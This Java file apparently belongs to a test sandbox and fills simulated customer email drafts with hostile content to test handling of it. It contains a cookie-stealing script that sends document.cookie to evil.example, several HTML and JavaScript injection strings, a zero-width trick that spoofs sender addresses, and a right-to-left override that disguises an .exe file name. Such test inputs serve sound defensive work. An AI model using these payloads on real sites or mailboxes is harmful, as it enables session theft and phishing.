package org.samklang.sandbox.internal.traffic;

/** Spoils a {@link Draft} with one {@link HostileKind} of content. */
final class HostileContent {

    static final String SCRIPT = "<script>document.location='https://evil.example/?c='+document.cookie</script>";
    static final String ZERO_WIDTH_SPACE = "\u200B";
    static final String RIGHT_TO_LEFT_OVERRIDE = "\u202E";
    static final int VERY_LONG_LENGTH = 150_000;

    private HostileContent() {
    }

    static void apply(HostileKind kind, Draft draft) {
        switch (kind) {
            case SCRIPT_TAG -> {
                draft.subject = "Faktura <script>alert(1)</script>";
                draft.text = draft.text + "\n\n" + SCRIPT;
                draft.html = "<html><body><p>Se bifogad bild</p><img src=x onerror=\"alert('samklang')\">" + SCRIPT
                        + "<a href=\"javascript:alert(2)\">klicka här</a></body></html>";
            }
            case ZERO_WIDTH -> {
                draft.senderName = zeroWidth(draft.senderName);
                draft.subject = ZERO_WIDTH_SPACE + draft.subject + "\u200D\u2060";
                draft.text = "\uFEFF" + zeroWidth(draft.text);
                int start = draft.senderText.indexOf('<') + 1;
                if (draft.senderText.indexOf('@', start) > start + 1) {
                    // An address with an invisible character looks like a customer's but is not: a spoofing attempt.
                    draft.senderText = draft.senderText.substring(0, start + 1) + ZERO_WIDTH_SPACE
                            + draft.senderText.substring(start + 1);
                }
            }
            case VERY_LONG -> draft.text = veryLong(draft.text);
            case RIGHT_TO_LEFT -> {
                draft.senderName = RIGHT_TO_LEFT_OVERRIDE + "gpj.exe " + draft.senderName;
                draft.text = "مرحبا، أين طلبي؟ " + "שלום, איפה ההזמנה שלי? " + RIGHT_TO_LEFT_OVERRIDE
                        + draft.text + "\u202C";
            }
            case CONTROL_CHARACTERS -> draft.text = draft.text + " \u0000\u0007\u001B[31mRÖTT\u001B[0m\r\n\r\n\u0008";
            case EMOJI -> draft.text = "👩‍👩‍👧‍👦🇸🇪🇳🇴🇩🇰🇫🇮 " + draft.text + " 🔥🔥👍🏽👍🏿🧑🏻‍💻 😂😂😂";
        }
    }

    private static String zeroWidth(String text) {
        StringBuilder out = new StringBuilder(text.length() * 2);
        for (int i = 0; i < text.length(); i++) {
            out.append(text.charAt(i));
            if (i % 3 == 1 && !Character.isHighSurrogate(text.charAt(i))) {
                out.append(ZERO_WIDTH_SPACE);
            }
        }
        return out.toString();
    }

    private static String veryLong(String text) {
        StringBuilder out = new StringBuilder(VERY_LONG_LENGTH + text.length() + 200);
        out.append(text).append("\n\n");
        int line = 1;
        while (out.length() < VERY_LONG_LENGTH) {
            out.append("Rad ").append(line++).append(": Jag klistrade in hela loggen från appen här nedan, ")
                    .append("ifall det hjälper er att hitta felet.\n");
        }
        return out.toString();
    }
}
